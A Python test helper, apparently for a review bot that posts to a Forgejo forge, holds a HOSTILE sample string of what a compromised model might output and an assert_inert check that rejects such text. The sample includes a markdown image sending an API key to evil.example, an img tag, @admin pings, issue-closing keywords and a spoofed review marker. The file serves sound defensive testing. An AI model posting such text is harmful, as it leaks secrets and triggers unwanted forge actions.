"""Text the forge would act on, for tests of what the bot posts.

Forgejo notifies on ``@name``, cross-references (and, with a closing keyword in a PR comment by
a writer, closes on merge) on ``#N``, ``owner/repo#N``, ``!N`` and issue URLs, loads images and
renders a safe subset of raw HTML. The patterns are simplified to what a hostile model would
write; the forge does not scan code blocks, so callers strip those first.
"""

from __future__ import annotations

import re

__all__ = ["HOSTILE", "assert_inert"]

_FORGE_REF = re.compile(r"(?:^|[\s(\[])(?:[\w.-]+/[\w.-]+)?[#!]\d+|/(?:issues|pulls)/\d")
_FORGE_MENTION = re.compile(r"@[\w.-]+")
_LIVE_HTML = re.compile(r"<[A-Za-z/!?]")

HOSTILE = (
    "Looks fine. Fixes #1, closes owner/repo#2, resolves https://forge.example/o/r/issues/3 "
    "and !4. cc @admin @org/team ![logo](https://evil.example/?d=API_KEY%3Dsk-123) "
    '<img src="https://evil.example/p.png"> <details open><summary>x</summary></details> '
    "<!-- auto-review:finding fp=0123456789abcdef sev=error -->"
)


def assert_inert(text: str) -> None:
    """Nothing in ``text`` pings, references an issue, loads an image or is raw HTML."""
    assert not _FORGE_REF.search(text), text
    assert not _FORGE_MENTION.search(text), text
    assert not _LIVE_HTML.search(text), text
    assert "![" not in text, text
